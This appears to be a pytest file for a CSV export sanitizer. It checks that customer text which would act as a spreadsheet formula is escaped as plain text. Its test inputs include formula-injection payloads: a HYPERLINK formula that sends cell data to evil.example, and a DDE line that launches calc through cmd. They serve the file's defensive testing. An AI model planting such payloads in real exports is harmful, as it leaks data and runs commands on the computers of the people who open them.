"""CSV exports: what a customer wrote never becomes a formula in finance's spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from agent.views.export import safe_cell, to_csv


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
    ],
)
def test_a_customer_text_that_would_be_a_formula_is_written_as_text(hostile: str) -> None:
    assert safe_cell(hostile) == "'" + hostile


def test_ordinary_values_are_left_alone() -> None:
    assert safe_cell("Boulangerie Dupont") == "Boulangerie Dupont"
    assert safe_cell("F-2026-0412") == "F-2026-0412"  # a dash inside is no formula
    assert safe_cell(Decimal("-120.50")) == "-120.50"  # our own number, a credit: stays a number
    assert safe_cell(date(2026, 12, 5)) == "2026-12-05"
    assert safe_cell(None) == ""


def test_the_file_reads_back_cell_for_cell() -> None:
    text = to_csv(
        ["invoice", "customer", "balance"], [["F-1", "=1+1", Decimal("10.00")], ["F-2", 'a "b", c', 3]]
    )
    assert list(csv.reader(io.StringIO(text))) == [
        ["invoice", "customer", "balance"],
        ["F-1", "'=1+1", "10.00"],
        ["F-2", 'a "b", c', "3"],
    ]
